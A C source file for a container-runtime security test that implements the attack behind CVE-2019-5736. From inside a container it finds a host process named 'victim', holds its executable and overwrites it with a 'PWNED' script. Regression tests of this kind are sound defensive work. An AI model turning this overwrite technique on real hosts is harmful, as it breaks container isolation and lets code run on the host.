// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * exe-watcher.c - the attacker of CVE-2019-5736 (runc's /proc/self/exe
 * overwrite), for tests/security.bats: from inside a container, wait for a
 * process whose /proc/PID/exe is a host binary named "*victim*", hold it
 * with O_PATH, and once it is no longer running, reopen it for writing and
 * replace it.  Built static by the test and run inside the container.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void);
int main(void)
{
	char p[64], l[256];
	int fd = -1;
	for (int round = 0; round < 1000000; round++) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (fd < 0 && (de = readdir(d))) {
			ssize_t n;
			if (de->d_name[0] < '0' || de->d_name[0] > '9') continue;
			snprintf(p, sizeof p, "/proc/%s/exe", de->d_name);
			n = readlink(p, l, sizeof l - 1);
			if (n <= 0) continue;
			l[n] = 0;
			if (strstr(l, "victim")) {
				fd = open(p, O_PATH | O_CLOEXEC);
				if (fd >= 0) { fprintf(stderr, "watcher: got %s (%s)\n", p, l); }
			}
		}
		closedir(d);
		if (fd >= 0) {
			snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
			for (int i = 0; i < 2000000; i++) {
				int w = open(p, O_WRONLY | O_TRUNC);
				if (w >= 0) {
					write(w, "#!/bin/sh\necho PWNED\n", 21);
					close(w);
					fprintf(stderr, "watcher: overwrote the host binary\n");
					return 0;
				}
				usleep(100);
			}
			return 1;
		}
	}
	return 2;
}
